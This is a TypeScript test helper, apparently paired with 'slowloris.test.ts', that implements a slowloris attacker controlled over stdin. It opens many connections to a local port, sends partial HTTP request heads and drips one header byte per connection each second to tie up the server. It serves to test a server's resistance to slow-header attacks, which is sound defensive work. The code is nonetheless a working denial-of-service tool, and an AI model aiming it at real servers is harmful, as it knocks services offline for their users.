/**
 * The slowloris attacker for slowloris.test.ts, in its own process so its work does not share the
 * test's event loop. Commands on stdin, one per line:
 *   open <port> <count>   opens <count> connections, sends a partial request head on each, then drips
 *                         one header byte per connection about every second; prints {"open":n}
 *   close                 destroys every connection; prints {"closed":n,"byServer":m}
 * Connections the server closes are counted (`byServer`) and not reopened.
 */
import net from 'node:net'
import { createInterface } from 'node:readline'

let socks: net.Socket[] = []
let byServer = 0
let timer: NodeJS.Timeout | undefined
const out = (o: unknown): void => { process.stdout.write(`${JSON.stringify(o)}\n`) }

async function open(port: number, count: number): Promise<void> {
  byServer = 0
  const pending: Promise<void>[] = []
  for (let i = 0; i < count; i++) {
    const s = net.connect(port, '127.0.0.1')
    s.on('error', () => {})
    s.once('close', () => { if (!(s as net.Socket & { mine?: boolean }).mine) byServer++ })
    socks.push(s)
    pending.push(new Promise((r) => s.once('connect', () => { s.write(`GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Slow-${i}: `); r() })))
    if (i % 100 === 99) await Promise.all(pending.splice(0))
  }
  await Promise.all(pending)
  // One byte per connection per second, spread evenly over the second (1 ms slices), as uncoordinated
  // clients would: the server sees a steady trickle of single-byte reads, not bursts.
  let next = 0
  const perSlice = Math.max(1, Math.ceil(socks.length / 1000))
  timer = setInterval(() => {
    for (let k = 0; k < perSlice && socks.length > 0; k++) {
      const s = socks[next++ % socks.length]!
      if (!s.destroyed) s.write('a')
    }
  }, 1)
  out({ open: socks.filter((s) => !s.destroyed).length })
}

function close(): void {
  clearInterval(timer)
  const n = socks.length
  for (const s of socks) { (s as net.Socket & { mine?: boolean }).mine = true; s.destroy() }
  socks = []
  setTimeout(() => out({ closed: n, byServer }), 50)
}

createInterface({ input: process.stdin }).on('line', (line) => {
  const [cmd, a, b] = line.trim().split(/\s+/)
  if (cmd === 'open') void open(Number(a), Number(b))
  else if (cmd === 'status') out({ alive: socks.filter((s) => !s.destroyed).length, byServer })
  else if (cmd === 'close') close()
  else if (cmd === 'exit') process.exit(0)
})
